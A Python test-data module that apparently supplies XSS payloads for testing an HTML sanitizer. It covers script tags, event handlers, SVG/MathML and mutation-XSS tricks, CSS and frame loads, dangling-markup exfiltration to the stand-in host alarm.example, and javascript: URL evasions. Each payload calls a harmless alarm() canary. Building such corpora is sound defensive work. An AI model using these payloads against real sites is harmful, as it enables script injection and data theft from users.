"""Hostile markup, made after the classes that the public cheat sheets know (OWASP's filter evasion, PortSwigger's list of
events, Cure53's HTML5 security and their work on mutation XSS). Each sounds the alarm if a browser runs it: it calls
``alarm()``, or asks the host ``alarm.example`` for something.

A payload is a piece of HTML. :data:`ADDRESSES` are those of URL-valued places, :data:`WORDS` are for places that hold
text and where a browser would run what breaks out of it.
"""

from __future__ import annotations

from itertools import product
from typing import Final

HOST: Final = "alarm.example"
_CALL: Final = "alarm()"
_NET: Final = f"//{HOST}/x"


def _scripts() -> list[str]:
    plain = [
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<ScRiPt/>{}</ScRiPt>", "<script\n>{}</script\n>", "<script type=module>{}</script>",
        "<script async>{}</script>", "<script/x>{}</script>", "<script\x00>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
        "<<script>{}//<</script>", "<script>{}", "<script>/*<!--*/{}//--></script>", "<script><!--\n{}\n--></script>",
        "<script language=javascript>{}</script>", "<script type=text/javascript;version=1.8>{}</script>", "</p><script>{}</script><p>",
        "<b><script>{}</b></script>", "<p><script>{}</p></script>", "<table><script>{}</script></table>", "<select><script>{}</script></select>",
        "<noscript><p title=\"</noscript><script>{}</script>\">", "<template><script>{}</script></template>",
        "<div><template shadowrootmode=open><script>{}</script></template></div>",
    ]  # fmt: skip
    loaded = [
        f"<script src={_NET}></script>", f"<script src='{_NET}.js' defer></script>", f'<script type=module src="https:{_NET}"></script>',
        f"<script>import('https:{_NET}')</script>", f"<link rel=modulepreload href={_NET}>",
        f'<script type=importmap>{{"imports":{{"a":"https:{_NET}"}}}}</script><script type=module>import "a"</script>',
        f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["https:{_NET}"]}}]}}</script>',
    ]  # fmt: skip
    return [form.format(_CALL) for form in plain] + loaded


def _handlers() -> list[str]:
    """Events that fire without a hand, each on an element that fires it; then those that want one, on what has focus."""
    alone = [
        "<img src=x onerror={}>", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload={}>", "<image src=x onerror={}>",
        "<svg onload={}>", "<svg><image href=x onerror={} /></svg>", "<body onload={}>", "<body onpageshow={}>", "<body onhashchange={}>",
        "<frameset onload={}>", "<iframe onload={}></iframe>", "<object data=x onerror={}></object>", "<embed src=x onerror={}>",
        "<video src=x onerror={}></video>", "<video><source onerror={}></video>", "<audio src=x onerror={}></audio>", "<video onloadstart={}><source src=x></video>",
        "<input autofocus onfocus={}>", "<textarea autofocus onfocus={}></textarea>", "<select autofocus onfocus={}></select>", "<button autofocus onfocus={}>x</button>",
        "<a href=# autofocus onfocus={} tabindex=0>x</a>", "<div contenteditable autofocus onfocus={}>x</div>", "<details open ontoggle={}>x</details>",
        "<marquee onstart={}>x</marquee>", "<marquee loop=1 width=0 onfinish={}>x</marquee>", "<style onload={}></style>", "<link rel=stylesheet href=data:text/css, onload={}>",
        "<script src=data:, onload={}></script>", "<input type=image src=x onerror={}>", "<track onerror={}>", "<video><track default src=data:, onload={}></video>",
        "<dialog open onclose={}>x</dialog>", "<p style=animation:x onanimationstart={}>x</p>", "<p style='transition:color 1ms' ontransitionend={}>x</p>",
        "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x to=1>", "<svg><a><animate onend={} attributeName=x dur=1ms></a></svg>",
        "<div onfocusin={} tabindex=0 autofocus>x</div>", "<p onscrollend={} style=overflow:scroll>x</p>", "<div popover onbeforetoggle={}>x</div>",
        "<img src=x alt='`><img src=x onerror={}>'>", "<img src=\"x` onerror={}\">", "<img/src=x/onerror={}>", "<img src=x onerror\n=\n{}>", "<img src=x\x0conerror={}>",
        "<img src=x oNeRrOr={}>", "<img src=x onerror=&#97;larm&#40;&#41;>", "<img src=x onerror=al&#x61;rm&lpar;&rpar;>", "<img src=x onerror='\\u0061larm()'>",
        "<img src=x onerror=\"eval('ala'+'rm()')\">", "<img src=x onerror=location='javascript:alarm()'>", "<img src=x onerror=alarm`1`>",
        "<isindex type=image src=x onerror={}>", "<keygen autofocus onfocus={}>", "<bgsound onerror={} src=x>", "<x onfocus={} tabindex=1 autofocus>x</x>",
    ]  # fmt: skip
    by_hand = [
        f"<{element} {event}={_CALL}>touch</{element}>"
        for element, event in product(
            ("p", "b", "a href=#", "td", "h2", "figcaption", "blockquote"),
            (
                "onclick",
                "onmouseover",
                "onpointerenter",
                "onmousemove",
                "oncontextmenu",
                "onwheel",
                "onkeydown",
                "oncopy",
            ),
        )
    ]
    return [form.format(_CALL) for form in alone] + [hand.replace("</a href=#>", "</a>") for hand in by_hand]


def _foreign() -> list[str]:
    """SVG and MathML, where other rules of parsing hold."""
    return [
        f"<svg><script>{_CALL}</script></svg>", f"<svg><script href=data:text/javascript,{_CALL} /></svg>", "<svg><script>&#97;larm()</script></svg>",
        f"<svg><a href=javascript:{_CALL}><text y=20>touch</text></a></svg>", f"<svg><a xlink:href=javascript:{_CALL}><text y=20>touch</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{_CALL} /><text y=20>touch</text></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{_CALL} /><text y=20>touch</text></a></svg>",
        f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>", f"<svg><foreignObject><iframe srcdoc='<script>parent.{_CALL}</script>'></foreignObject></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={_CALL} /></svg>#x' /></svg>",
        f"<svg><image href=https:{_NET} /></svg>", f"<svg><use href=https:{_NET}#x /></svg>", f"<svg><feImage href=https:{_NET} /></svg>",
        f"<svg><style>@import 'https:{_NET}';</style></svg>", f"<svg><title><style><img src=x onerror={_CALL}></style></title></svg>",
        f"<svg><desc><img src=x onerror={_CALL}></desc></svg>", f"<svg></p><style><g title=\"</style><img src=x onerror={_CALL}>\">",
        f"<svg><p><style><!--</style><img src=x onerror={_CALL}>--></style></p></svg>", f"<svg><![CDATA[<img src=x onerror={_CALL}>]]></svg>",
        f"<svg><xss onload={_CALL} /></svg>", f"<svg/onload={_CALL}//", f"<svg><discard onbegin={_CALL} />", f"<svg><handler type=text/javascript>{_CALL}</handler></svg>",
        f"<svg><tspan onmouseover={_CALL}>touch</tspan></svg>", f"<svg xmlns:e=http://www.w3.org/2001/xml-events><e:listener e:event=load e:handler=javascript:{_CALL} /></svg>",
        f"<math><a href=javascript:{_CALL}>touch</a></math>", f"<math href=javascript:{_CALL}>touch</math>", f"<math><mi xlink:href=javascript:{_CALL}>touch</mi></math>",
        f"<math><maction actiontype=statusline#https:{_NET} xlink:href=javascript:{_CALL}>touch</maction></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={_CALL}></annotation-xml></math>",
        f"<math><mtext><img src=x onerror={_CALL}></mtext></math>", f"<math><mtext><style><img src=x onerror={_CALL}></style></mtext></math>",
        f"<math><mi//xlink:href='data:x,<script>{_CALL}</script>'>touch", f"<math><ms><script>{_CALL}</script></ms></math>",
        f"<math><semantics><annotation-xml encoding=application/xhtml+xml><script>{_CALL}</script></annotation-xml></semantics></math>",
    ]  # fmt: skip


def _mutations() -> list[str]:
    """What parses as something harmless once, and as something else when it is written out and parsed again."""
    image = f"<img src=x onerror={_CALL}>"
    return [
        f"<math><mtext><table><mglyph><style><!--</style>{image}-->", f"<math><mtext><table><mglyph><style><![CDATA[</style>{image}]]>",
        f"<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea>{image}'>", f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f"<svg></p><title><style></title>{image}", f"<svg><p><title><a id='</title>{image}'>", f"<noscript><style></noscript>{image}</style>",
        f"<noscript><p title='</noscript>{image}'></noscript>", f"<noembed><p title='</noembed>{image}'></noembed>", f"<noframes><p title='</noframes>{image}'></noframes>",
        f"<xmp><p title='</xmp>{image}'></xmp>", f"<textarea><p title='</textarea>{image}'></textarea>", f"<title><p title='</title>{image}'></title>",
        f"<style><p title='</style>{image}'></style>", f"<iframe><p title='</iframe>{image}'></iframe>", f"<plaintext>{image}", f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>",
        f"<select><style></select>{image}</style></select>", f"<select><option><style></option></select>{image}</style>", f"<template><style></template>{image}</style>",
        f"<table><td><style></td>{image}</style></table>", f"<table>{image}<tr><td>x</table>", f"<a><table><a href=javascript:{_CALL}>touch</a></table></a>",
        f"<p><svg><style></p>{image}</style></svg>", f"<b><p><math><mi></b>{image}</math>", f"<!--><{image}-->", f"<!--->{image}-->", f"<!-- --!>{image}-->",
        f"<!--[if gte IE 4]>{image}<![endif]-->", f"<![CDATA[{image}]]>", f"<?xml {image}?>", f"<?xml-stylesheet href=javascript:{_CALL}?>", f"</{image}", f"<!{image}>",
        f"<!DOCTYPE x [<!ENTITY y '{image}'>]>&y;", f"<p id='&lt;img src=x onerror={_CALL}&gt;'>", f"<x a='\"' b=\"'>{image}\">", f"<a title=\"&quot;&gt;{image}\">x</a>",
        f"&lt;img src=x onerror={_CALL}&gt;", f"&amp;lt;img src=x onerror={_CALL}&amp;gt;", f"&#60;img src=x onerror={_CALL}&#62;", f"\uff1cimg src=x onerror={_CALL}\uff1e",
        f"\\u003cimg src=x onerror={_CALL}\\u003e", f"%3Cimg src=x onerror={_CALL}%3E", f"+ADw-img src=x onerror={_CALL}+AD4-", f"\x1b$B<\x1b(B{image}",
        f"<img src='x\x00' onerror={_CALL}>", f"<im\x00g src=x onerror={_CALL}>", f"<{'div>' * 600}{image}", f"<div id=1{' x=1' * 200} onclick={_CALL}>touch</div>",
        f"<p>{'&' * 300}lt;{image}", f"<details><summary><style></summary>{image}</style></details>", f"<ruby><rt><svg><style></rt>{image}</style></svg></ruby>",
        f"<label><input><style></label>{image}</style>", f"<button><svg><desc><style></button>{image}</style></desc></svg>", f"<object><style></object>{image}</style>",
    ]  # fmt: skip


def _documents() -> list[str]:
    """Frames, plug-ins, forms, and what moves or rewrites the whole page."""
    frame = f"<script>parent.{_CALL}</script>"
    return [
        f"<iframe src=https:{_NET}></iframe>", f"<iframe src=javascript:parent.{_CALL}></iframe>", f'<iframe srcdoc="{frame}"></iframe>', f"<iframe src='data:text/html,{frame}'></iframe>",
        f"<iframe srcdoc='&lt;script&gt;parent.{_CALL}&lt;/script&gt;' sandbox='allow-scripts allow-same-origin'></iframe>", f"<frameset><frame src=https:{_NET}></frameset>",
        f"<object data=https:{_NET}></object>", f"<object data='data:text/html,{frame}'></object>", f"<object type=text/html data=javascript:{_CALL}></object>", f"<embed src=https:{_NET}>",
        f"<embed src=data:text/html,{frame} type=text/html>", f"<applet code=https:{_NET}></applet>", f"<object><param name=src value=https:{_NET}></object>", f"<portal src=https:{_NET}></portal>",
        f"<fencedframe src=https:{_NET}></fencedframe>", f"<meta http-equiv=refresh content='0;url=https:{_NET}'>", f"<meta http-equiv=refresh content='0;javascript:{_CALL}'>",
        f"<META HTTP-EQUIV=Refresh CONTENT='0 ; URL=data:text/html,{frame}'>", "<meta http-equiv=set-cookie content=a=b>", "<meta http-equiv=Content-Security-Policy content=\"img-src https:\">",
        f"<base href=https:{_NET}/><img src=a><a href=b>b</a>", f"<base href=javascript:/><a href=,{_CALL}>touch</a>", f"<base target=_top><a href=//{HOST}>x</a>",
        f"<form action=https:{_NET}><input name=a autofocus><button>touch</button></form>", f"<form action=javascript:{_CALL}><button>touch</button></form>", f"<form><button formaction=javascript:{_CALL}>touch</button></form>",
        f"<form id=f action=https:{_NET}></form><button form=f>touch</button>", f"<input type=submit formaction=javascript:{_CALL} form=f>", f"<isindex action=javascript:{_CALL} type=submit>",
        f"<form action=https:{_NET} method=dialog><input type=image src=https:{_NET}></form>", "<form name=body><input name=firstChild></form>", f"<img name=getElementById><a id=location href=javascript:{_CALL}>touch</a>",
        f"<link rel=stylesheet href=https:{_NET}>", f"<link rel=preload as=image href=https:{_NET}>", f"<link rel=prefetch href=https:{_NET}>", f"<link rel=prerender href=https:{_NET}>",
        f"<link rel=dns-prefetch href=//{HOST}>", f"<link rel=preconnect href=https:{_NET}>", f"<link rel=icon href=https:{_NET}>", f"<link rel=manifest href=https:{_NET}>", f"<link rel=import href=https:{_NET}>",
        f"<html manifest=https:{_NET}>", f"<a href=# ping=https:{_NET}>x</a>", f"<video poster=https:{_NET}></video>", f"<video src=https:{_NET} autoplay></video>", f"<audio src=https:{_NET} autoplay></audio>",
        f"<audio preload=auto><source src=https:{_NET}></audio>", f"<video><track default kind=captions src=https:{_NET}></video>", f"<table background=https:{_NET}><td background=https:{_NET}>x</table>",
        f"<body background=https:{_NET}>", f"<input type=image src=https:{_NET}>", f"<bgsound src=https:{_NET}>", f"<layer src=https:{_NET}></layer>", f"<dialog open>x<form method=dialog action=https:{_NET}></dialog>",
    ]  # fmt: skip


def _styles() -> list[str]:
    url = f"url(https:{_NET})"
    return [
        f"<style>@import 'https:{_NET}';</style>", f"<style>@import {url};</style>", f"<style>*{{background:{url}}}</style>", f"<style>@font-face{{font-family:x;src:{url}}}*{{font-family:x}}</style>",
        f"<p style=\"background:{url}\">x</p>", f"<p style='list-style:{url}'>x</p>", f"<p style='border-image:{url}'>x</p>", f"<p style='cursor:{url},auto'>x</p>", f"<p style='content:{url}'>x</p>",
        f"<p style='background:\\75 rl(https:{_NET})'>x</p>", f"<p style='background:image-set(\"https:{_NET}\" 1x)'>x</p>", f"<p style='mask:{url}'>x</p>", f"<p style='filter:{url}'>x</p>",
        f"<p style='width:expression({_CALL})'>x</p>", f"<p style='-moz-binding:{url}'>x</p>", f"<p style='behavior:{url}'>x</p>", f"<style>p::before{{content:{url}}}</style>", f"<style>@namespace {url};</style>",
        f"<style></style ><style>*{{background:{url}}}</style>", f"<style>input[value^=a]{{background:{url}}}</style><input value=a>", f"<link rel=stylesheet href='data:text/css,*{{background:{url}}}'>",
        f"<style>@media all{{*{{background:{url}}}}}", f"<div style='position:fixed;inset:0;background:{url}'>x</div>", f"<style type=text/css>@\\69mport 'https:{_NET}';</style>", f"<xss style='x:{url};background:{url}'>x</xss>",
    ]  # fmt: skip


def _dangling() -> list[str]:
    """Attributes that are left open and swallow what follows, to carry it away."""
    return [
        f"<img src='https:{_NET}?", f'<img src="https:{_NET}?', f"<img srcset='https:{_NET}?", f"<a href='https:{_NET}?", f"<textarea><form action=https:{_NET}>", f"<style>@import 'https:{_NET}?",
        f"<meta http-equiv=refresh content='0;url=https:{_NET}?", "<base target='", f"<object data='https:{_NET}?", f"<form action='https:{_NET}?", f"<button formaction='https:{_NET}?", "<iframe name='", "<!--", "<![CDATA[", "<title>", "<xmp>", "<plaintext>", "<noscript>", "<select>", "<template>",
    ]  # fmt: skip


ADDRESSES: Final[list[str]] = [
    f"javascript:{_CALL}", f"JAVASCRIPT:{_CALL}", f" javascript:{_CALL}", f"\tjavascript:{_CALL}", f"java\tscript:{_CALL}", f"java\nscript:{_CALL}", f"java\rscript:{_CALL}", f"\x01javascript:{_CALL}", f"\x00javascript:{_CALL}",
    f"javascript&colon;{_CALL}", f"javascript&#58;{_CALL}", f"&#106;avascript:{_CALL}", f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{_CALL}", f"java&Tab;script:{_CALL}", f"java&NewLine;script:{_CALL}",
    f"javascript://%0a{_CALL}", f"javascript://comment%0D%0A{_CALL}", f"javascript:/*--></title></style></textarea>*/{_CALL}", f"javascript:'<script>{_CALL}</script>'", f"\ufeffjavascript:{_CALL}", f"\u00a0javascript:{_CALL}", f"\u2028javascript:{_CALL}",
    f"javascript:void(0);{_CALL}", f"feed:javascript:{_CALL}", f"view-source:javascript:{_CALL}", f"jar:javascript:{_CALL}", f"vbscript:{_CALL}", f"livescript:{_CALL}", f"mocha:{_CALL}", f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_CALL}'/>", f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{_CALL}</script>", "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'/>",
    "data:,x", f"DATA:text/html,<script>{_CALL}</script>", f"blob:https://{HOST}/x", f"filesystem:https://{HOST}/x", "about:blank", "file:///etc/passwd", f"ftp://{HOST}/", f"ws://{HOST}/", f"intent://{HOST}#Intent;end", "tel:+1234", "ms-settings:x",
    f"https://a.example/\"onmouseover=\"{_CALL}", f"https://a.example/'onmouseover='{_CALL}", f"https://a.example/`onmouseover=`{_CALL}", f"https://a.example/><script>{_CALL}</script>", f"https://a.example/</a><img src=x onerror={_CALL}>", f"https://a.example/ onmouseover={_CALL} x=", f"https://a.example/#\"><svg onload={_CALL}>",
    f"https://javascript:{_CALL}@a.example/", f"//{HOST}/\" autofocus onfocus=\"{_CALL}", f"\\\\{HOST}\\x",
]  # fmt: skip

WORDS: Final[list[str]] = [
    f"</title><script>{_CALL}</script>", f"</style><script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"</textarea><script>{_CALL}</script>", f"--><script>{_CALL}</script>", f"]]><script>{_CALL}</script>", f"\"><script>{_CALL}</script>", f"'><script>{_CALL}</script>",
    f"\" onmouseover=\"{_CALL}\" x=\"", f"' onmouseover='{_CALL}' x='", f"` onmouseover=`{_CALL}`", f"\" autofocus onfocus=\"{_CALL}", f"</h1><img src=x onerror={_CALL}>", f"</figcaption><svg onload={_CALL}>", f"</a><iframe srcdoc='<script>parent.{_CALL}</script>'>", f"<img src=x onerror={_CALL}>", f"<svg/onload={_CALL}>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", f"\u202e<script>{_CALL}</script>", f"{{{{constructor.constructor('{_CALL}')()}}}}", f"${{{_CALL}}}", f"<%= {_CALL} %>", f"';{_CALL};//", f"\";{_CALL};//", f"</pre><script>{_CALL}</script>", f"</code><script>{_CALL}</script>",
    f"\r\n\r\n<script>{_CALL}</script>", f"\x00<script>{_CALL}</script>", f"\x1b(J<script>{_CALL}</script>",
]  # fmt: skip

MARKUP: Final[list[str]] = [
    *_scripts(), *_handlers(), *_foreign(), *_mutations(), *_documents(), *_styles(), *_dangling(),
]  # fmt: skip
